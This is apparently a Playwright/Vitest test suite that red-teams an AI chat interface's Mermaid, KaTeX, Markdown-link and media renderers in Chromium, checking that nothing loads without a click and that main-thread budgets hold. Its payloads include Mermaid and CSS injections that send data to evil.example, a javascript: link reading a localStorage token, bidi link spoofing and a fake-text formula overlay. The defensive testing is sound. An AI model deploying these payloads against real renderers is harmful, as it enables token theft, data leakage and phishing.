/**
 * The rich renderers under a red team, in a real Chromium: hostile Mermaid, KaTeX, tables, links, media and artifacts
 * streamed into AgentChatView (math and diagrams on). Every request leaving the page's origin is logged (and aborted):
 * none may happen without a click. A script canary must stay unset, and no input under 1 MB may block the main thread
 * for more than 200 ms of CPU (its tasks read from a Chromium trace, plain text and Markdown included). Mermaid draws in a sandboxed, network-less frame (its own process in Chromium), held to the same budget.
 */
import { fileURLToPath } from 'node:url';
import type { AgentEvent } from '@agent-chat/core';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, type Browser } from './browser.js';
import { mainThreadTasks } from './main-thread-tasks.js';
import { findChromium } from './find-chromium.mjs';
import { serveBuiltPage, type StaticPage } from './static-page.js';

const chromiumPath = findChromium();
// No task of the page's main thread may take more than 200 ms of CPU for any input under 1 MB (issue 49). Measured as
// the thread's CPU time in a trace, so that a loaded machine's descheduling is not counted as the kit's work. (Before
// the budgets these payloads blocked for 1–10 s.)
const LONG_TASK_BUDGET_MS = 200;
const steal = 'window.__stolen = localStorage.getItem("token")';

let turnNumber = 0;
/** One answer: `text` streamed in pieces of `piece` characters, then `extra` events, then the turn's end. */
function answer(text: string, extra: AgentEvent[] = [], piece = 4000): AgentEvent[] {
  const messageKey = `m${++turnNumber}`;
  const deltas: AgentEvent[] = (text.match(new RegExp(`[\\s\\S]{1,${piece}}`, 'g')) ?? []).map((chunk) => ({ type: 'text-delta', text: chunk, messageKey }));
  return [...deltas, ...extra.map((event) => ('messageKey' in event || event.type === 'message-complete' ? { ...event, messageKey } : event) as AgentEvent), { type: 'turn-end', finishReason: 'stop' }];
}

const fence = (source: string) => ['```mermaid', source, '```'].join('\n');
const mindmap = (nodes: number) => ['mindmap', '  root((Root))', ...Array.from({ length: nodes - 1 }, (_, index) => `    node${index}[Node ${index}]`)].join('\n');
const media = (name: string, url: string): AgentEvent => ({ type: 'artifact-upsert', artifact: { name, parts: [{ media: { url, contentType: 'image/png' } }] } });

describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium', () => {
  let site: StaticPage;
  let browser: Browser;
  let page: Page;
  let errors: string[];
  /**
   * Off-origin requests, each with whether a click allowed it, and whether a Content-Security-Policy stopped it before
   * it left the browser (Chromium reports those too, failed with the reason `csp`: the diagram box's).
   */
  const offOrigin: Array<{ url: string; clicked: boolean; blocked?: boolean }> = [];
  let clicking = false;
  /** Origins the user chose for the whole conversation ("Always load from host in this conversation"): consented. */
  const consentedOrigins = new Set<string>();
  const unclicked = () => offOrigin.filter((request) => !request.clicked && !request.blocked && !consentedOrigins.has(new URL(request.url).origin)).map((request) => request.url);

  /**
   * Sends one turn and waits for it to end and for every formula and diagram to settle; returns the CPU times (ms) of
   * the page's main-thread tasks over 50 ms it caused (read from a trace: see mainThreadTasks).
   */
  async function turn(events: AgentEvent[], settled?: () => boolean): Promise<number[]> {
    const tasks = await mainThreadTasks(page, async () => {
      await page.evaluate((sent) => window.hostile.turn(sent), events);
      await page.waitForFunction(() => document.querySelectorAll('.acu-math[data-state="source"], .acu-diagram[data-state="source"]').length === 0, undefined, { timeout: 60_000, polling: 100 });
      if (settled) await page.waitForFunction(settled, undefined, { timeout: 60_000, polling: 100 });
      // Two frames and a pause: what painting and layout the turn caused has run.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 300)))));
    });
    const long = tasks.filter((task) => task.cpu > 50 || task.wall > 50);
    if (long.length > 0) console.info(`long tasks (CPU / wall ms): ${long.map((task) => `${task.cpu}/${task.wall}`).join(', ')}`);
    return long.map((task) => task.cpu).filter((cpu) => cpu > 50);
  }

  async function click(selector: string) {
    clicking = true;
    try {
      await page.locator(selector).last().click();
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
    } finally {
      clicking = false;
    }
  }

  beforeAll(async () => {
    site = await serveBuiltPage(fileURLToPath(new URL('./hostile-renderers-page/', import.meta.url)));
    browser = await launchBrowser(chromiumPath!);
    ({ page, errors } = await browser.newPage());
    const origin = new URL(site.url).origin;
    const isOwn = (url: string) => url.startsWith(origin) || /^(data|blob|about):/.test(url);
    const logged = new WeakMap<object, { url: string; clicked: boolean; blocked?: boolean }>();
    browser.context.on('request', (request) => {
      if (isOwn(request.url())) return;
      const entry = { url: request.url(), clicked: clicking };
      logged.set(request, entry);
      offOrigin.push(entry);
    });
    browser.context.on('requestfailed', (request) => {
      const entry = logged.get(request);
      if (entry && request.failure()?.errorText === 'csp') entry.blocked = true;
    });
    await browser.context.route('**/*', (route) => (isOwn(route.request().url()) ? route.continue() : route.abort()));
    await page.goto(site.url);
    await page.waitForSelector('body[data-ready]', { state: 'attached' });
    // Warming up: the Markdown and KaTeX chunks load (their first load is not an input's cost).
    await turn(answer('Warming up: $x$.'));
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await site?.close();
  });

  it('plain text and Markdown up to 1 MB, streamed or in one read, never block the main thread past the budget', async () => {
    const plain = await turn(answer('ab '.repeat(33_000)));
    expect(Math.max(0, ...plain), `long tasks ${plain.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
    // ~800 kB of Markdown (headings, lists, code, quotes and paragraphs), all in one network read, as a fast server or
    // a restored answer delivers it: parsed and rendered over several tasks.
    const block = (index: number) => [`## Part ${index}`, '', `Some *emphasis*, **strong** and \`code\` in paragraph ${index}. `.repeat(6), '', '- one\n- two\n  - nested', '', '> quoted text', '', '```ts\nconst x = 1;\n```', ''].join('\n');
    const markdown = Array.from({ length: 1900 }, (_, index) => block(index)).join('\n');
    expect(markdown.length).toBeLessThan(1_000_000);
    const rich = await turn(answer(markdown, [], 1_000_000), () => [...document.querySelectorAll('.acu-message')].at(-1)!.querySelectorAll('h3').length === 1900);
    expect(Math.max(0, ...rich), `long tasks ${rich.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
  }, 300_000);

  it('Mermaid fetches nothing: image shapes, HTML labels, theme CSS, fonts and front matter set nothing that loads', async () => {
    const diagrams = [
      'flowchart LR\n  A@{ img: "https://evil.example/shape.png?d=SECRET", label: "x", pos: "t", h: 60, constraint: "on" }',
      '%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=\'https://evil.example/label.png\'>"] --> B',
      '%%{init: {"themeCSS": ".node rect{fill:url(https://evil.example/fill.png)} .label{background:url(https://evil.example/css.png)} svg{cursor:url(https://evil.example/cursor.png),auto;mask-image:url(https://evil.example/mask.png)}"}}%%\nflowchart LR\n  A --> B',
      '%%{init: {"fontFamily": "x;background-image:url(https://evil.example/font.png)", "themeVariables": {"fontFamily": "y;background:url(https://evil.example/font2.png)"}}}%%\nflowchart LR\n  A --> B',
      '---\nconfig:\n  htmlLabels: true\n  themeCSS: "svg{background:url(https://evil.example/frontmatter.png)}"\n---\nflowchart LR\n  A["<img src=https://evil.example/fm-label.png>"] --> B',
      'flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/style.svg#p),background-image:url(https://evil.example/style.png)\n  click A href "javascript:' + steal + '"',
      'flowchart LR\n  Start --> Done',
    ];
    await turn(answer(diagrams.map(fence).join('\n\nNext:\n\n')));
    expect(unclicked()).toEqual([]);
    // The harmless one (and those whose HTML was refused or locked) are drawn as images; none is live SVG.
    expect(await page.locator('.acu-diagram[data-state="rendered"] img.acu-diagram__image').count()).toBeGreaterThanOrEqual(1);
    expect(await page.locator('.acu-chat svg foreignObject, .acu-chat iframe').count()).toBe(0);
    expect(await page.evaluate(() => (window as { __stolen?: unknown }).__stolen)).toBeUndefined();
  }, 120_000);

  it('Mermaid draws in a network-less box: there, an image shape, CSS, an image and a fetch (the source rules bypassed) load nothing', async () => {
    await turn(answer(fence('flowchart LR\n  Boxed --> Drawn')));
    const handle = await page.locator('iframe.acu-diagram-box').elementHandle();
    const box = await handle!.contentFrame();
    expect(box).not.toBeNull();
    // Whether Chromium gave the box a process of its own (isolated sandboxed frames): then Mermaid's layout is off the page's main thread.
    const session = await page.context().newCDPSession(page);
    const { targetInfos } = await session.send('Target.getTargets');
    await session.detach();
    console.info(`the diagram box: ${targetInfos.some((target) => target.type === 'iframe') ? 'an out-of-process frame (its own main thread)' : "in the page's process"}`);
    // The box is an opaque origin: the page's storage is not its own.
    expect(await box!.evaluate(() => { try { return localStorage.getItem('token'); } catch { return 'refused'; } })).toBe('refused');
    const before = offOrigin.length;
    // Straight into the box, past the kit's source rules (a test-only way in): what would load in the page.
    const fetched = await box!.evaluate(async () => {
      const mermaid = (window as unknown as { mermaid: { render(id: string, text: string): Promise<{ svg: string }> } }).mermaid;
      // Mermaid loads the image shape's picture to size it: in the box that load is refused, and so the render fails.
      await mermaid.render('probe', 'flowchart LR\n  A@{ img: "https://evil.example/box-shape.png?d=SECRET", label: "x", pos: "t", h: 60, constraint: "on" }').catch(() => undefined);
      const holder = document.createElement('div');
      holder.innerHTML = `<img src="https://evil.example/box-img.png"><div style="width:9px;height:9px;background:url(https://evil.example/box-css.png)"></div><svg><image href="https://evil.example/box-svg-image.png" width="9" height="9"/></svg>`;
      document.body.append(holder);
      const fetched = await fetch('https://evil.example/box-fetch').then(() => 'fetched', (error: Error) => error.name);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return fetched;
    });
    expect(fetched).toBe('TypeError');
    // Mermaid and the rest did ask (so in the page these would have loaded); the box's policy stopped every one.
    const asked = offOrigin.slice(before);
    expect(asked.map((request) => request.url)).toEqual(expect.arrayContaining(['https://evil.example/box-shape.png?d=SECRET', 'https://evil.example/box-img.png', 'https://evil.example/box-svg-image.png']));
    expect(asked.filter((request) => !request.blocked).map((request) => request.url)).toEqual([]);
    expect(unclicked()).toEqual([]);
  }, 120_000);

  it('Mermaid past its budget (a 600-node mindmap) stays source with a note, without a long task; one within it is drawn', async () => {
    const refused = await turn(answer(`A big one:\n\n${fence(mindmap(600))}`));
    expect(await page.locator('.acu-diagram').last().getAttribute('data-state')).toBe('too-large');
    expect(await page.locator('.acu-diagram[data-state="too-large"] .acu-rendered__note').last().textContent()).toBe('Too large to draw: shown as source.');
    expect(Math.max(0, ...refused), `long tasks ${refused.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
    // Within the budget (a mindmap at its 15 statements), Mermaid lays the diagram out in its box: in Chromium a
    // sandboxed frame has a process of its own, so the page's main thread is not held by it.
    const drawn = await turn(answer(fence(mindmap(15))));
    expect(await page.locator('.acu-diagram').last().getAttribute('data-state')).toBe('rendered');
    console.info(`a 15-node mindmap, drawn: long tasks ${drawn.join(', ') || 'none'} ms`);
    expect(Math.max(0, ...drawn), `long tasks ${drawn.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
  }, 120_000);

  it('KaTeX: 25,000 formulas in 100 kB, and 3,000 display formulas, never block the main thread past the budget', async () => {
    const inline = await turn(answer('$a'.repeat(50_000)));
    expect(Math.max(0, ...inline), `long tasks ${inline.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
    const display = await turn(answer(Array.from({ length: 3000 }, (_, index) => `$x_{${index}} = \\frac{${index}}{2}$`).join(' ')));
    expect(Math.max(0, ...display), `long tasks ${display.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
    expect(await page.locator('.acu-math[data-state="rendered"]').count()).toBeGreaterThan(200);
  }, 180_000);

  it('a 3,000-column table shows as text with a note, without a long task', async () => {
    const columns = Array.from({ length: 3000 }, (_, index) => `c${index}`);
    const table = [`| ${columns.join(' | ')} |`, `| ${columns.map(() => '---').join(' | ')} |`, `| ${columns.join(' | ')} |`].join('\n');
    const longTasks = await turn(answer(`${table}\n\nafter the table`));
    expect(await page.locator('.acu-markdown__table-source').count()).toBe(1);
    expect(Math.max(0, ...longTasks), `long tasks ${longTasks.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
  }, 120_000);

  it('links, sources and citations show the host they open; bidi controls cannot reorder it; a URL-looking text of another host is marked', async () => {
    await turn(answer('[https://bank.example/login](//evil.example/landing) [a](\\\\evil.example/b) [b](/\\evil.example/c) [\u202emoc.knab](https://evil.example/d) see [1]', [
      { type: 'part-add', part: { source: { url: '//evil.example/source', title: 'Bank' } } } as AgentEvent,
    ]));
    const links = await page.locator('.acu-message').last().locator('.acu-markdown a').evaluateAll((nodes) => (nodes as HTMLAnchorElement[]).map((link) => ({
      host: new URL(link.href).host, label: link.querySelector('.acu-markdown__host')?.textContent ?? null, kind: link.dataset.kind ?? null,
    })));
    expect(links.slice(0, 4)).toEqual([
      { host: 'evil.example', label: '(⚠ evil.example)', kind: 'mismatch' },
      { host: 'evil.example', label: '(evil.example)', kind: null },
      { host: 'evil.example', label: '(evil.example)', kind: null },
      { host: 'evil.example', label: '(⚠ evil.example)', kind: 'mismatch' },
    ]);
    // The label is isolated: it reads left to right whatever the text before it does.
    expect(await page.locator('.acu-markdown__host').last().evaluate((node) => getComputedStyle(node).unicodeBidi)).toBe('isolate');
    expect(await page.locator('.acu-citation a').last().getAttribute('aria-label')).toBe('Source 1: Bank (evil.example)');
    expect(await page.locator('.acu-source__host').last().textContent()).toBe('evil.example');
  }, 60_000);

  it('a consent covers one exact URL: an artifact update or a final message with another URL asks again', async () => {
    await turn(answer('A chart:', [media('chart', 'https://cdn.example/chart.png')]));
    await click('.acu-artifact button.acu-media-gate__load');
    expect(offOrigin.filter((request) => request.clicked).map((request) => request.url)).toContain('https://cdn.example/chart.png');
    await turn(answer('Updated:', [media('chart', 'https://evil.example/leak.png?d=secret')]));
    expect(await page.locator('.acu-artifact button.acu-media-gate__load').last().textContent()).toBe('Load image from evil.example');

    await turn(answer('![chart](https://cdn.example/inline.png)'));
    await click('.acu-message button.acu-media-gate__load');
    const key = `m${turnNumber}`;
    // This turn makes the conversation 30 messages, ~1 MB of them drawn: the list becomes virtual. It starts from the
    // heights its rows were drawn at and mounts only rows near the end (before: one 174–256 ms task, rows far up —
    // 3,000 formulas — rendered and measured again).
    const final = await turn([
      { type: 'text-delta', text: 'Again: ![chart](https://cdn.example/again.png)', messageKey: key },
      { type: 'message-complete', message: { role: 'model', content: [{ text: 'Again: ![chart](https://evil.example/final.png?d=secret)' }] }, messageKey: key },
      { type: 'turn-end', finishReason: 'stop' },
    ]);
    expect(Math.max(0, ...final), `long tasks ${final.join(', ')} ms`).toBeLessThanOrEqual(LONG_TASK_BUDGET_MS);
    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
    expect(unclicked()).toEqual([]);
    // This turn made the conversation 30 messages: the list became virtual, its rows measured as they mounted. The
    // reader never scrolled, so it still follows its end (the CI flake: a row measured after the list had followed its
    // end scrolled it back up, the list let go of the end, and the next turn's rows were never mounted).
    expect(await page.locator('.acu-message-list__rows[data-state="virtual"]').count()).toBe(1);
    expect(await page.locator('.acu-message-list__jump').count()).toBe(0);
    expect(await page.locator('.acu-message-list').evaluate((list) => list.scrollHeight - list.scrollTop - list.clientHeight)).toBeLessThanOrEqual(1);
  }, 60_000);

  it('one host for this conversation: after "Always load from pics.example", its later images load, other hosts still ask', async () => {
    await turn(answer('![one](https://pics.example/one.png)'));
    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__host').textContent()).toBe('Always load from pics.example in this conversation');
    const before = offOrigin.length;
    await click('.acu-message button.acu-media-gate__host');
    consentedOrigins.add('https://pics.example');
    expect(offOrigin.slice(before).map((request) => request.url)).toEqual(['https://pics.example/one.png']);
    // Later, a message image and an artifact of that origin load with no click; evil.example is not covered.
    const later = offOrigin.length;
    await turn(answer('![two](https://pics.example/two.png) ![leak](https://evil.example/host.png?d=secret)', [media('pics', 'https://pics.example/three.png')]));
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
    expect(offOrigin.slice(later).map((request) => request.url).sort()).toEqual(['https://pics.example/three.png', 'https://pics.example/two.png']);
    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
    expect(unclicked()).toEqual([]);
  }, 60_000);

  it('the artifact Download of a remote URL opens a new tab: the app is never navigated away', async () => {
    await turn(answer('A file:', [{ type: 'artifact-upsert', artifact: { name: 'login', parts: [{ media: { url: 'https://evil.example/fake-login', contentType: 'application/pdf' } }] } }]));
    const appUrl = page.url();
    const popup = browser.context.waitForEvent('page', { timeout: 5000 }).catch(() => null);
    await click('.acu-artifact a.acu-artifact__download');
    await (await popup)?.close();
    expect(page.url()).toBe(appUrl);
    expect(await page.locator('body[data-ready]').count()).toBe(1);
  }, 60_000);

  it('a formula that reaches past its message paints inside it: it cannot lay fake text over the rest of the page', async () => {
    await turn(answer('Spacer line.'));
    await turn(answer('$\\llap{\\text{FAKE}}$ (a formula that paints to the left of its message)'));
    const hit = await page.evaluate(() => {
      const fake = [...document.querySelectorAll('.acu-math .katex-html *')].filter((node) => node.textContent === 'FAKE').at(-1)!;
      const box = fake.getBoundingClientRect();
      const body = fake.closest('.acu-message__body')!.getBoundingClientRect();
      const under = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      return { outside: box.right <= body.left + 1 && box.left >= 0, hitsFake: !!under && fake.contains(under) };
    });
    expect(hit).toEqual({ outside: true, hitsFake: false });
    expect(await page.evaluate(() => (window as { __stolen?: unknown }).__stolen)).toBeUndefined();
    expect(unclicked()).toEqual([]);
    expect(errors.filter((error) => !/ERR_FAILED|ERR_ABORTED|Content Security Policy|net::/.test(error))).toEqual([]);
  }, 60_000);
});
